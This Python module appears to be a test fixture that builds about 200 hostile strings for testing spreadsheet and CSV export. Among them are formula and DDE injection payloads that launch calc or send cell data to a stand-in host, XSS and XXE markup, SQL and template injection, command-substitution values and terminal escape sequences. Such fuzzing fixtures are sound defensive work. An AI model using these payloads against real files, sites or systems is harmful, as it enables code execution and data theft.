"""200 texts that programs mangle, run or lose, made the same way each time."""

_FORMULAS = (
    "1+1",
    "SUM(A1:A9)",
    'HYPERLINK("http://x.test/?"&A1,"go")',
    "cmd|' /C calc'!A0",
    'WEBSERVICE("x")',
    "NOW()",
)
_LEADING = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠", "'=", "\u200b=", "\ufeff=", "{=")
_CONTROLS = tuple(f"a{chr(number)}b" for number in (*range(1, 32), 0x7F, 0x80, 0x85, 0x9F))
_NUL_AND_NO_CHARACTERS = ("\x00", "a\x00b", "\ud800", "a\udfffb", "\udc00\ud800", "\ufffe", "a\uffffb")
_ESCAPES = ("_x0041_", "_x005F_", "_x005F_x0041_", "x_x000D_y", "_x0000_", "_xD800_", "_x00e9_", "__x0041__", "_X0041_")
_DIRECTION = ("\u202egnp.exe", "\u200fabc", "\u200eabc", "\u2067x\u2069", "שלום", "مرحبا 123", "a\u061cb")
_INVISIBLE = ("\u200b", "a\u200bb", "\u200d", "\ufeff", "\u00ad", "\u2060", "\u00a0", "\u3000", " ", "  a  ", "\u2028")
_LINES = ("a\nb", "a\r\nb", "a\rb", "\n", "\r\n\r\n", "a\n\n\nb", "\ta\t", "a\u2029b", "\x0b", "\x0c")
_LONG = ("x" * 32_766, "x" * 32_767, "é" * 32_767, "😀" * 16_383, "=" + "1" * 32_766, "&" * 32_767, "\n" * 32_767)
_QUOTES = ('"', '""', '"a","b"', 'a"b', "'", "';", "a,b;c\td|e", '"\r\n"', "sep=;", "\\", '\\"', "\\n")
_MARKUP = ("&amp;", "<b>x</b>", "]]>", "<![CDATA[x]]>", "&#0;", "&#x1F;", "<!--", "</t></is></c>", "<?xml?>", "&nope;")
_MARKUP_RUN = (
    "<script>alert(1)</script>",
    '<img src=x onerror="x()">',
    "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///x'>]>",
)
_EMOJI = ("😀", "👩‍👩‍👧‍👦", "🏴‍☠️", "e\u0301", "é", "Z͑ͫ̓a̴l", "𝕏", "\U0010fffd", "🇦🇶", "ﷺ")
_TERMINAL = (
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b[2J",
    "\x9b31m",
    "\x1b]8;;http://x.test\x1b\\x\x1b]8;;\x1b\\",
    "\b\b\b",
)
_DDE = ('DDE("cmd";"/C calc";"x")', '=DDE("a";"b";"c")', "@SUM(1+1)*cmd|' /C calc'!A0", "=MSEXCEL|'\\..\\x'!''")
_NUMBERS = (
    "007",
    "1e5",
    "1E400",
    "-0",
    "9" * 40,
    "12345678901234567890",
    "0x1F",
    "1,5",
    "1.5",
    "١٢٣",
    "½",
    "∞",
    "1_000",
)
_DATES = ("1-2", "3/4", "2026-03-02", "MAR1", "SEPT2", "12:30", "1:2:3", "29.02.2025", "0000-00-00", "May")
_WORDS = ("NA", "nan", "NaN", "null", "None", "TRUE", "false", "#N/A", "#REF!", "inf", "undefined", "N/A", "-", "0")
_CODE = ("'; DROP TABLE events;--", "1 OR 1=1", "${7*7}", "{{7*7}}", "%s%n", "../../x", "CON", "$(id)", "`id`", "%00")
_HTTP = ("http://x.test/", "mailto:a@x.test", "javascript:alert(1)", "file:///x", "\\\\x.test\\share")

HOSTILE: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *(lead + formula for lead in _LEADING for formula in _FORMULAS[:2]),
            *("=" + formula for formula in _FORMULAS[2:]),
            *_CONTROLS,
            *_NUL_AND_NO_CHARACTERS,
            *_ESCAPES,
            *_DIRECTION,
            *_INVISIBLE,
            *_LINES,
            *_LONG,
            *_QUOTES,
            *_MARKUP,
            *_MARKUP_RUN,
            *_EMOJI,
            *_TERMINAL,
            *_DDE,
            *_NUMBERS,
            *_DATES,
            *_WORDS,
            *_CODE,
            *_HTTP,
        )
    )
)
TOO_LONG = ("x" * 32_768, "😀" * 16_384, "\x01" + "y" * 40_000)
"""Longer than a cell of Excel."""
